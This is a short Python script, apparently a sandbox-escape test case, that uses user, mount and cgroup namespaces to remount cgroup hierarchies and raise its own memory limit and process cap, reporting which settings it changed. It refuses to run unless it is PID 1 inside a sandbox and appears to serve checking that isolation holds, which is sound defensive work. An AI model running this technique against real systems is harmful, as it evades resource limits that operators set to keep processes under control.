"""Attack: raise its own memory and process caps from a user namespace of its own.

In a new user, mount and cgroup namespace a process may mount the cgroup hierarchies
afresh, rooted at its own cgroup. It reports each setting it managed to change.
"""

import ctypes
import os

# Outside the sandbox this would change the machine's own cgroups: refuse.
if os.getpid() != 1:
    raise RuntimeError("attack: not run in a sandbox, so not run at all")
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWCGROUP = 0x10000000, 0x00020000, 0x02000000
MS_REC, MS_PRIVATE = 1 << 14, 1 << 18


def raise_limits() -> list[str]:
    changed = []
    if libc.unshare(CLONE_NEWUSER) or libc.unshare(CLONE_NEWNS | CLONE_NEWCGROUP):
        return changed
    libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None)
    for controller, setting in (("memory", "memory.limit_in_bytes"), ("pids", "pids.max")):
        os.makedirs(f"/tmp/{controller}", exist_ok=True)
        if libc.mount(b"cgroup", f"/tmp/{controller}".encode(), b"cgroup", 0, controller.encode()):
            continue
        try:
            with open(f"/tmp/{controller}/{setting}", "w") as file:
                file.write("max" if controller == "pids" else str(2**40))
            changed.append(setting)
        except OSError:
            pass
    return changed


reader, writer = os.pipe()
pid = os.fork()  # a fresh user namespace needs a single-threaded process
if pid == 0:
    os.write(writer, repr(raise_limits()).encode())
    os._exit(0)
os.close(writer)
changed = os.read(reader, 4096).decode()
os.waitpid(pid, 0)
raise RuntimeError(f"attack: changed {changed}")
